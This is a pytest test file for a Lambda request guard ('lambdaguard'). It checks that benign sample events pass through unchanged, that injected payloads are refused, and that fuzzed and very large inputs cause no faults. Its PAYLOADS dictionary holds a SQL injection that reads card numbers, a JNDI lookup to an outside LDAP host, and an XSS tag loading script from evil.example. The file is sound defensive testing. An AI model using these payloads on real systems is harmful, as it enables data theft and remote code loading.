"""The main job, through the front door: every sample event of every source, benign and with a payload in each of its strings."""

import copy
import json

import pytest
from events.samples import inject, samples, shared
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lambdaguard import current, guard

PAYLOADS = {
    "sql": "x' UNION SELECT card_number, expiry FROM payments-- -",
    "jndi": "${jndi:ldap://203.0.113.66:1389/a}",
    "xss": "<script src=//evil.example/x.js></script>",
}
EVENTS = [*((name, event) for name, _, event in samples()), *((f"shared {name}", event) for name, event in shared())]


@guard
def benign(event, context):
    return event


@guard(on_block=lambda inv: ("refused", inv.refused.family, inv.source.name, inv.refused.path))
def judged(event, context):
    return ("ran", None, current().source.name, "")


@pytest.mark.parametrize("event", [event for _, event in EVENTS], ids=[name for name, _ in EVENTS])
def test_benign_events_reach_the_handler_unchanged_and_unremarked(event, capsys):
    before = copy.deepcopy(event)
    assert benign(event, None) is event
    assert event == before
    assert capsys.readouterr().out == ""


@pytest.mark.parametrize(("name", "source", "event"), samples(), ids=[name for name, _, _ in samples()])
def test_samples_are_recognised(name, source, event):
    assert judged(event, None)[2] == source


@pytest.mark.parametrize("family", PAYLOADS)
@pytest.mark.parametrize("event", [event for _, event in EVENTS], ids=[name for name, _ in EVENTS])
def test_a_payload_in_any_string_of_the_callers_is_refused(event, family, capsys):
    before = copy.deepcopy(event)
    missed = []
    for path, hostile in inject(event, PAYLOADS[family]):
        answer = judged(hostile, None)
        if answer[0] != "refused":
            missed.append((path, answer))
    capsys.readouterr()
    assert missed == []
    assert event == before


def test_how_many_strings_that_were():
    """A parametrised test that silently runs on nothing proves nothing."""
    ours = [sum(1 for _ in inject(event, "x")) for _, _, event in samples()]
    every = [sum(1 for _ in inject(event, "x")) for _, event in EVENTS]
    print(f"{len(ours)} samples of ours with {sum(ours)} strings; {len(every)} events with {sum(every)} in all")
    assert len(ours) >= 60
    assert sum(ours) >= 600


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters(), max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=20,
)
SLOW_IS_FINE = [HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
FAST = settings(suppress_health_check=SLOW_IS_FINE, max_examples=150)


@guard(mode="monitor")
def watched(event, context):
    return event


def faults(printed):
    return [line for line in printed.splitlines() if "LG-GUARD-" in line]


@FAST
@given(event=JSON)
def test_any_json_is_an_event(event, capsys):
    assert watched(event, None) is event
    assert faults(capsys.readouterr().out) == []


@FAST
@given(data=st.data())
def test_any_mutation_of_a_sample_is_an_event(data, capsys):
    _, event = data.draw(st.sampled_from(EVENTS))
    event = copy.deepcopy(event)
    for _ in range(data.draw(st.integers(1, 3))):
        _mutate(event, data)
    before = json.dumps(event)
    assert watched(event, None) is event
    assert json.dumps(event) == before
    assert faults(capsys.readouterr().out) == []


def _mutate(node, data):
    """Replace, remove or add something at a random place."""
    for _ in range(data.draw(st.integers(0, 5))):
        below = [item for item in (node.values() if isinstance(node, dict) else node) if isinstance(item, dict | list) and item]
        if not below:
            break
        node = data.draw(st.sampled_from(below))
    value = data.draw(JSON | st.sampled_from(["\ud800", float("nan"), "H4sIAAAA", "eyJ", "{" * 500, "a" * 100_000, "%" * 999]))
    if isinstance(node, dict) and node:
        key = data.draw(st.sampled_from(sorted(node, key=str)))
        if data.draw(st.booleans()):
            node[key] = value
        else:
            del node[key]
            node[data.draw(st.text(max_size=8))] = value
    elif isinstance(node, list):
        node.append(value)


HUGE = {
    "letters": "a" * 6_000_000,
    "punctuation": "é'\"<(" * 1_000_000,
    "brackets": "[" * 6_000_000,
    "objects": '{"a":' * 1_000_000,
    "percent": "%25" * 2_000_000,
    "surrogates": "\ud800" * 1_000_000,
    "equals": "=" * 6_000_000,
}


@pytest.mark.parametrize("text", HUGE.values(), ids=HUGE)
def test_six_megabytes_of_anything_are_judged_without_a_fault(text, capsys):
    event = {"version": "2.0", "rawPath": "/", "headers": {}, "requestContext": {"http": {"method": "POST"}}, "body": text}
    assert watched(event, None) is event
    assert faults(capsys.readouterr().out) == []
